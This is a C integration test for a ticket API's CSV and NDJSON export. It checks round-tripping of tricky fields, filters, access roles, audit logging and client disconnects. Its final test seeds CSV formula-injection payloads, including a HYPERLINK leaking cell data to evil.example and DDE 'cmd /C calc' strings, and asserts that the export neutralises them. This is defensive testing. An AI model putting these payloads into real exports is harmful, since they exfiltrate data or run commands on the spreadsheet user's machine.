/* GET /api/tickets/export.csv and .ndjson on the real stack: 2,600 tickets
 * seeded into a fresh database (some processed, some failed, some with
 * 50 KB bodies so batches are cut by size as well as by count, and bodies
 * holding quotes, commas, CR, LF and non-ASCII text), exported through a
 * triage-api child process, parsed back here with an RFC 4180 reader and
 * compared field by field with the seed. */
#include "test_support.h"

#include "api_fixture.h"
#include "ticket.h"
#include "ticket_bson.h"
#include "timeutil.h"

#include <arpa/inet.h>
#include <cjson/cJSON.h>
#include <mongoc/mongoc.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ADMIN_KEY TRIAGE_TEST_ADMIN_KEY /* random per build: tests/CMakeLists.txt */
#define N_TICKETS 2600
#define BIG_BODY (50 * 1024)

static tk_api_fx_t fx;
static const char *const viewer_key = fx.viewer_key, *const operator_key = fx.operator_key;
static int64_t base_ms;

/* The seed, kept to compare against. */
typedef struct {
   char id[32];
   char *subject;
   char *body;
   int64_t created_at;
   bool processed;
   const char *tags[2];
   size_t n_tags;
   const char *sentiment, *priority;
   double conf[3];
   int64_t time_ms, processed_at;
   const char *model;
   int attempts;
   const char *last_error;
   bool review; /* stored with needs_review */
} seed_t;

static seed_t seeds[N_TICKETS];

static const char *tricky_bodies[] = {
   "He said \"it's broken\", then left",
   "line one\nline two\r\nline three, with a comma",
   "\"\"\"",
   ",,,",
   " leading and trailing spaces ",
   "caf\xc3\xa9 \xe2\x80\x94 \xe6\x97\xa5\xe6\x9c\xac \"quoted\"\n,",
};
#define N_TRICKY (sizeof tricky_bodies / sizeof tricky_bodies[0])

/* ---- HTTP helpers ------------------------------------------------------------ */

static tk_api_fx_resp_t
get (const char *path, const char *key)
{
   return tk_api_fx_request (&fx.svc, "GET", path, key, NULL, 0, NULL);
}

/* ---- an RFC 4180 reader ----------------------------------------------------- */

typedef struct {
   char **fields;
   size_t n;
} row_t;

typedef struct {
   row_t *rows;
   size_t n;
} csv_t;

static void
csv_free (csv_t *c)
{
   for (size_t i = 0; i < c->n; i++) {
      for (size_t f = 0; f < c->rows[i].n; f++) {
         free (c->rows[i].fields[f]);
      }
      free (c->rows[i].fields);
   }
   free (c->rows);
}

/* Parses text strictly: a quote inside a quoted field must be doubled,
 * records end with CRLF. Returns false on malformed input. */
static bool
csv_parse (const char *s, size_t len, csv_t *out)
{
   size_t i = 0, cap_rows = 0;
   memset (out, 0, sizeof *out);
   while (i < len) {
      row_t row = {NULL, 0};
      size_t cap_f = 0;
      for (;;) {
         char *field = malloc (len - i + 1);
         size_t fl = 0;
         if (i < len && s[i] == '"') {
            i++;
            for (;;) {
               if (i >= len) {
                  free (field);
                  return false;
               }
               if (s[i] == '"') {
                  if (i + 1 < len && s[i + 1] == '"') {
                     field[fl++] = '"';
                     i += 2;
                     continue;
                  }
                  i++;
                  break;
               }
               field[fl++] = s[i++];
            }
         } else {
            while (i < len && s[i] != ',' && s[i] != '\r' && s[i] != '\n') {
               if (s[i] == '"') {
                  free (field);
                  return false;
               }
               field[fl++] = s[i++];
            }
         }
         field[fl] = '\0';
         if (row.n == cap_f) {
            cap_f = cap_f ? cap_f * 2 : 32;
            row.fields = realloc (row.fields, cap_f * sizeof *row.fields);
         }
         row.fields[row.n++] = field;
         if (i < len && s[i] == ',') {
            i++;
            continue;
         }
         if (i + 1 < len && s[i] == '\r' && s[i + 1] == '\n') {
            i += 2;
            break;
         }
         if (i >= len) {
            break;
         }
         return false; /* a bare CR or LF outside quotes */
      }
      if (out->n == cap_rows) {
         cap_rows = cap_rows ? cap_rows * 2 : 256;
         out->rows = realloc (out->rows, cap_rows * sizeof *out->rows);
      }
      out->rows[out->n++] = row;
   }
   return true;
}

/* ---- setup --------------------------------------------------------------------- */

static const char *const sentiments[] = {"Angry", "Curious", "Frustrated", "Neutral"};
static const char *const priorities[] = {"P0 (High)", "P1 (Medium)", "P2 (Low)"};

static int
setup (void **state)
{
   (void) state;
   if (!tk_api_fx_setup (&fx, "triage_test_export", NULL, ADMIN_KEY)) {
      return -1;
   }
   assert_true (tk_time_parse_iso ("2025-05-01T08:00:00Z", 20, &base_ms));
   tk_ticket_t **batch = calloc (N_TICKETS, sizeof *batch);
   for (size_t i = 0; i < N_TICKETS; i++) {
      seed_t *s = &seeds[i];
      snprintf (s->id, sizeof s->id, "E-%05zu", i);
      char subj[64];
      snprintf (subj, sizeof subj, "Subject %zu, part \"%zu\"", i, i % 7);
      s->subject = strdup (subj);
      if (i % 100 == 7) {
         s->body = malloc (BIG_BODY + 1);
         for (size_t k = 0; k < BIG_BODY; k++) {
            s->body[k] = (char) ('a' + (k + i) % 26);
         }
         s->body[BIG_BODY] = '\0';
      } else if (i % 10 == 3) {
         s->body = strdup (tricky_bodies[(i / 10) % N_TRICKY]);
      } else {
         char b[64];
         snprintf (b, sizeof b, "plain body %zu", i);
         s->body = strdup (b);
      }
      s->created_at = base_ms + (int64_t) i * 1000;
      /* Every 13th failed once (some of those then processed), every fifth
       * processed; errors and model names with commas and quotes. Inserted
       * in their final state in one batch: one update per ticket would
       * take minutes on FerretDB's SQLite backend. */
      if (i % 13 == 0) {
         s->attempts = 1;
         s->last_error = i % 2 ? "llm said \"no\", twice" : "timeout\nafter 30s";
      }
      if (i % 5 == 0) {
         s->processed = true;
         s->tags[0] = "SSO";
         s->tags[1] = "Lineage";
         s->n_tags = i % 2 ? 2 : 1;
         s->sentiment = sentiments[i % 4];
         s->priority = priorities[i % 3];
         s->conf[0] = 0.1 + (double) (i % 9) / 10;
         s->conf[1] = 1.0 / 3;
         s->conf[2] = 0.95;
         s->time_ms = (int64_t) i * 3;
         s->processed_at = s->created_at + 60000;
         s->model = i % 2 ? "model, \"v2\"" : "m-1";
      }
      tk_ticket_t *t = tk_ticket_new ();
      t->id = strdup (s->id);
      t->subject = strdup (s->subject);
      t->body = strdup (s->body);
      t->created_at = s->created_at;
      t->updated_at = s->created_at + 120000;
      t->processing_attempts = s->attempts;
      t->last_error = s->last_error ? strdup (s->last_error) : NULL;
      if (s->processed) {
         t->processed = true;
         for (size_t k = 0; k < s->n_tags; k++) {
            t->classification.topic_tags[k] = strdup (s->tags[k]);
         }
         t->classification.n_topic_tags = s->n_tags;
         t->classification.sentiment = strdup (s->sentiment);
         t->classification.priority = strdup (s->priority);
         t->confidence = (tk_confidence_t) {s->conf[0], s->conf[1], s->conf[2]};
         t->metadata.processed_at = s->processed_at;
         t->metadata.model_version = strdup (s->model);
         t->metadata.processing_time_ms = s->time_ms;
         t->metadata.agent_version = strdup ("agent 1.0");
         t->metadata.needs_review = s->review = s->conf[0] < 0.5;
      }
      batch[i] = t;
   }
   /* Written as documents in their final state (tk_store_insert_tickets
    * stores raw tickets only), in the store's own BSON form. */
   bson_t **docs = calloc (N_TICKETS, sizeof *docs);
   for (size_t i = 0; i < N_TICKETS; i++) {
      docs[i] = bson_new ();
      assert_true (tk_ticket_to_bson (batch[i], docs[i]));
   }
   mongoc_collection_t *coll = tk_api_fx_collection (&fx, "tickets");
   bson_error_t e;
   bool inserted = mongoc_collection_insert_many (coll, (const bson_t **) docs, N_TICKETS, NULL,
                                                  NULL, &e);
   if (!inserted) {
      fprintf (stderr, "insert_many: %s\n", e.message);
   }
   assert_true (inserted);
   tk_api_fx_collection_release (&fx, coll);
   for (size_t i = 0; i < N_TICKETS; i++) {
      bson_destroy (docs[i]);
      tk_ticket_destroy (batch[i]);
   }
   free (docs);
   free (batch);

   if (!tk_api_fx_start (&fx, &fx.svc, "api", NULL)) {
      return -1;
   }
   tk_api_fx_make_role_keys (&fx);
   return 0;
}

static int
teardown (void **state)
{
   (void) state;
   int rc = tk_api_fx_teardown (&fx);
   for (size_t i = 0; i < N_TICKETS; i++) {
      free (seeds[i].subject);
      free (seeds[i].body);
   }
   return rc;
}

/* ---- checks ---------------------------------------------------------------------- */

static const char *const header[] = {
   "id", "subject", "body", "source", "processed", "created_at", "updated_at", "topic_tags",
   "sentiment", "priority", "confidence_topic", "confidence_sentiment", "confidence_priority",
   "processed_at", "model_version", "processing_time_ms", "agent_version", "processing_attempts",
   "last_error", "corrected_at", "needs_review"};
#define N_COLS (sizeof header / sizeof header[0])

static void
iso (int64_t ms, char *buf)
{
   assert_true (tk_time_format_iso (ms, buf, TK_TIME_ISO_BUFSIZE));
}

static void
check_row (const row_t *row, const seed_t *s)
{
   char t[TK_TIME_ISO_BUFSIZE], num[64];
   assert_int_equal (row->n, N_COLS);
   assert_string_equal (row->fields[0], s->id);
   assert_string_equal (row->fields[1], s->subject);
   assert_string_equal (row->fields[2], s->body);
   assert_string_equal (row->fields[4], s->processed ? "true" : "false");
   iso (s->created_at, t);
   assert_string_equal (row->fields[5], t);
   iso (s->created_at + 120000, t);
   assert_string_equal (row->fields[6], t);
   if (s->processed) {
      char tags[64];
      snprintf (tags, sizeof tags, "%s%s%s", s->tags[0], s->n_tags == 2 ? ";" : "",
                s->n_tags == 2 ? s->tags[1] : "");
      assert_string_equal (row->fields[7], tags);
      assert_string_equal (row->fields[8], s->sentiment);
      assert_string_equal (row->fields[9], s->priority);
      for (int c = 0; c < 3; c++) {
         assert_true (strtod (row->fields[10 + c], NULL) == s->conf[c]);
      }
      iso (s->processed_at, t);
      assert_string_equal (row->fields[13], t);
      assert_string_equal (row->fields[14], s->model);
      snprintf (num, sizeof num, "%lld", (long long) s->time_ms);
      assert_string_equal (row->fields[15], num);
      assert_string_equal (row->fields[16], "agent 1.0");
   } else {
      for (size_t c = 7; c <= 16; c++) {
         assert_string_equal (row->fields[c], "");
      }
   }
   snprintf (num, sizeof num, "%d", s->attempts);
   assert_string_equal (row->fields[17], num);
   assert_string_equal (row->fields[18], s->last_error ? s->last_error : "");
   assert_string_equal (row->fields[19], ""); /* none was corrected by a person */
   assert_string_equal (row->fields[20], s->review ? "true" : "false");
}

static void
test_csv_parses_back_to_the_seeded_tickets (void **state)
{
   (void) state;
   tk_api_fx_resp_t r = get ("/api/tickets/export.csv", operator_key);
   assert_int_equal (r.status, 200);
   assert_non_null (strstr (r.content_type, "text/csv"));
   csv_t csv;
   assert_true (csv_parse (r.body, r.body_len, &csv));
   assert_int_equal (csv.n, N_TICKETS + 1);
   assert_int_equal (csv.rows[0].n, N_COLS);
   for (size_t c = 0; c < N_COLS; c++) {
      assert_string_equal (csv.rows[0].fields[c], header[c]);
   }
   /* Newest first (the default sort), every ticket exactly once. */
   for (size_t i = 1; i < csv.n; i++) {
      check_row (&csv.rows[i], &seeds[N_TICKETS - i]);
   }
   csv_free (&csv);
   tk_api_fx_resp_free (&r);
}

static void
test_csv_filters_and_sort (void **state)
{
   (void) state;
   tk_api_fx_resp_t r =
      get ("/api/tickets/export.csv?status=processed&priority=P0%20(High)&sort=created_at",
           operator_key);
   assert_int_equal (r.status, 200);
   csv_t csv;
   assert_true (csv_parse (r.body, r.body_len, &csv));
   size_t k = 1;
   for (size_t i = 0; i < N_TICKETS; i++) {
      const seed_t *s = &seeds[i];
      if (s->processed && !strcmp (s->priority, "P0 (High)")) {
         assert_true (k < csv.n);
         check_row (&csv.rows[k++], s);
      }
   }
   assert_int_equal (k, csv.n);
   csv_free (&csv);
   tk_api_fx_resp_free (&r);

   /* Nothing matches: just the header. */
   r = get ("/api/tickets/export.csv?q=no-such-text", operator_key);
   assert_int_equal (r.status, 200);
   assert_true (csv_parse (r.body, r.body_len, &csv));
   assert_int_equal (csv.n, 1);
   csv_free (&csv);
   tk_api_fx_resp_free (&r);

   /* Paging parameters and bad filters are refused. */
   r = get ("/api/tickets/export.csv?limit=10", operator_key);
   assert_int_equal (r.status, 400);
   tk_api_fx_resp_free (&r);
   r = get ("/api/tickets/export.ndjson?sentiment=Furious", operator_key);
   assert_int_equal (r.status, 400);
   tk_api_fx_resp_free (&r);
}

static void
test_ndjson_lists_every_ticket (void **state)
{
   (void) state;
   tk_api_fx_resp_t r = get ("/api/tickets/export.ndjson?sort=created_at", operator_key);
   assert_int_equal (r.status, 200);
   assert_non_null (strstr (r.content_type, "application/x-ndjson"));
   size_t n = 0;
   char *save = NULL;
   for (char *line = strtok_r (r.body, "\n", &save); line; line = strtok_r (NULL, "\n", &save)) {
      assert_true (n < N_TICKETS);
      const seed_t *s = &seeds[n++];
      cJSON *j = cJSON_Parse (line);
      assert_non_null (j);
      assert_string_equal (cJSON_GetObjectItem (j, "id")->valuestring, s->id);
      assert_string_equal (cJSON_GetObjectItem (j, "body")->valuestring, s->body);
      assert_true (cJSON_IsBool (cJSON_GetObjectItem (j, "processed")));
      assert_int_equal (cJSON_IsTrue (cJSON_GetObjectItem (j, "processed")), s->processed);
      if (s->processed) {
         cJSON *c = cJSON_GetObjectItem (j, "classification");
         assert_string_equal (cJSON_GetObjectItem (c, "priority")->valuestring, s->priority);
      }
      cJSON_Delete (j);
   }
   assert_int_equal (n, N_TICKETS);
   tk_api_fx_resp_free (&r);
}

static void
test_roles_and_audit (void **state)
{
   (void) state;
   tk_api_fx_resp_t r = get ("/api/tickets/export.csv", viewer_key);
   assert_int_equal (r.status, 403);
   tk_api_fx_resp_free (&r);
   r = get ("/api/tickets/export.ndjson", NULL);
   assert_int_equal (r.status, 401);
   tk_api_fx_resp_free (&r);
   r = get ("/api/audit?action=tickets.export_csv", ADMIN_KEY);
   assert_int_equal (r.status, 200);
   cJSON *j = cJSON_Parse (r.body);
   cJSON *items = cJSON_GetObjectItem (j, "items"), *it;
   int ok = 0, refused = 0;
   cJSON_ArrayForEach (it, items)
   {
      int status = (int) cJSON_GetObjectItem (it, "status")->valuedouble;
      ok += status == 200 && !strcmp (cJSON_GetObjectItem (it, "role")->valuestring, "operator");
      refused += status == 403;
   }
   assert_true (ok >= 3);
   assert_int_equal (refused, 0);
   cJSON_Delete (j);
   tk_api_fx_resp_free (&r);
   /* The viewer was refused by the key check, before the route ran. */
   r = get ("/api/audit?action=auth.forbidden", ADMIN_KEY);
   assert_int_equal (r.status, 200);
   j = cJSON_Parse (r.body);
   cJSON_ArrayForEach (it, cJSON_GetObjectItem (j, "items"))
   {
      refused += !strcmp (cJSON_GetObjectItem (it, "route")->valuestring,
                          "/api/tickets/export.csv") &&
                 !strcmp (cJSON_GetObjectItem (it, "role")->valuestring, "viewer");
   }
   assert_int_equal (refused, 1);
   cJSON_Delete (j);
   tk_api_fx_resp_free (&r);
}

/* A client that reads a little and hangs up must not hurt the service: the
 * export stops, and the next one is complete. */
static void
test_client_hanging_up_mid_export (void **state)
{
   (void) state;
   for (int round = 0; round < 3; round++) {
      int fd = socket (AF_INET, SOCK_STREAM, 0);
      assert_true (fd >= 0);
      struct sockaddr_in sa = {0};
      sa.sin_family = AF_INET;
      sa.sin_port = htons ((uint16_t) fx.svc.port);
      sa.sin_addr.s_addr = htonl (INADDR_LOOPBACK);
      assert_int_equal (connect (fd, (struct sockaddr *) &sa, sizeof sa), 0);
      char req[512];
      int len = snprintf (req, sizeof req,
                          "GET /api/tickets/export.%s HTTP/1.1\r\nHost: x\r\n"
                          "Authorization: Bearer %s\r\n\r\n",
                          round % 2 ? "ndjson" : "csv", operator_key);
      assert_int_equal (write (fd, req, (size_t) len), len);
      char buf[4096];
      ssize_t got = 0, n;
      while (got < 200 * 1024 * round + 1 && (n = read (fd, buf, sizeof buf)) > 0) {
         got += n;
      }
      close (fd);
   }
   tk_api_fx_resp_t r = get ("/api/tickets/export.csv", operator_key);
   assert_int_equal (r.status, 200);
   csv_t csv;
   assert_true (csv_parse (r.body, r.body_len, &csv));
   assert_int_equal (csv.n, N_TICKETS + 1);
   csv_free (&csv);
   tk_api_fx_resp_free (&r);
}

/* Spreadsheets run a cell that starts with '=', '+', '-', '@', a tab or a
 * CR as a formula: every text cell that does gets a leading "'" (OWASP),
 * while numbers the export writes itself (a negative processing time
 * included: a number is not a formula) and text starting otherwise are
 * left alone. Runs last: it adds tickets (dated 2031, so the filter below
 * finds only them). */
static void
test_csv_cells_cannot_run_formulas (void **state)
{
   (void) state;
   int64_t t0;
   assert_true (tk_time_parse_iso ("2031-01-01T00:00:00Z", 20, &t0));
   static const struct {
      const char *id, *subject, *body, *subject_csv, *body_csv;
   } rows[] = {
      {"X-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
       "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0"},
      {"X-2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {"X-3", "\tTAB=1", "\rCR=1", "'\tTAB=1", "'\rCR=1"},
      {"@X-4", "-5 degrees in the server room", "a=b, and 1+1 stays", "'-5 degrees in the server room",
       "a=b, and 1+1 stays"},
      {"X-5", "Plain subject", " =not first", "Plain subject", " =not first"},
   };
   size_t n = sizeof rows / sizeof rows[0];
   for (size_t i = 0; i < n; i++) {
      tk_api_fx_seed (&fx, rows[i].id, rows[i].subject, rows[i].body, t0 + (int64_t) i * 1000);
   }
   /* A processed one: its labels and numbers are ours, the model name is
    * text; a negative processing time stays a plain number. */
   tk_api_fx_classify (&fx, "X-5", "SSO", NULL, "Neutral", "P2 (Low)", 0.5, 0.25, 1, -5,
                       "=cmd|' /C calc'!A0", t0 + 60000);
   tk_api_fx_resp_t r = get ("/api/tickets/export.csv?created_from=2031-01-01&sort=created_at",
                             operator_key);
   assert_int_equal (r.status, 200);
   csv_t csv;
   assert_true (csv_parse (r.body, r.body_len, &csv));
   assert_int_equal (csv.n, n + 1);
   for (size_t i = 0; i < n; i++) {
      const row_t *row = &csv.rows[i + 1];
      assert_int_equal (row->n, N_COLS);
      assert_string_equal (row->fields[0], rows[i].id[0] == '@' ? "'@X-4" : rows[i].id);
      assert_string_equal (row->fields[1], rows[i].subject_csv);
      assert_string_equal (row->fields[2], rows[i].body_csv);
   }
   const row_t *p = &csv.rows[n];
   assert_string_equal (p->fields[4], "true");
   assert_string_equal (p->fields[7], "SSO");
   assert_string_equal (p->fields[10], "0.5");
   assert_string_equal (p->fields[11], "0.25");
   assert_string_equal (p->fields[14], "'=cmd|' /C calc'!A0");
   assert_string_equal (p->fields[15], "-5");
   /* The raw text is in the CSV only behind the quote mark. */
   assert_null (strstr (r.body, ",=HYPERLINK"));
   assert_null (strstr (r.body, ",\"=HYPERLINK"));
   csv_free (&csv);
   tk_api_fx_resp_free (&r);

   /* NDJSON is for programs: unchanged. */
   r = get ("/api/tickets/export.ndjson?created_from=2031-01-01&sort=created_at", operator_key);
   assert_int_equal (r.status, 200);
   char *nl = strchr (r.body, '\n');
   assert_non_null (nl);
   *nl = '\0';
   cJSON *j = cJSON_Parse (r.body);
   assert_non_null (j);
   assert_string_equal (cJSON_GetObjectItem (j, "subject")->valuestring, rows[0].subject);
   cJSON_Delete (j);
   tk_api_fx_resp_free (&r);
}

int
main (void)
{
   const struct CMUnitTest tests[] = {
      cmocka_unit_test (test_csv_parses_back_to_the_seeded_tickets),
      cmocka_unit_test (test_csv_filters_and_sort),
      cmocka_unit_test (test_ndjson_lists_every_ticket),
      cmocka_unit_test (test_client_hanging_up_mid_export),
      cmocka_unit_test (test_roles_and_audit),
      cmocka_unit_test (test_csv_cells_cannot_run_formulas),
   };
   return cmocka_run_group_tests (tests, setup, teardown);
}
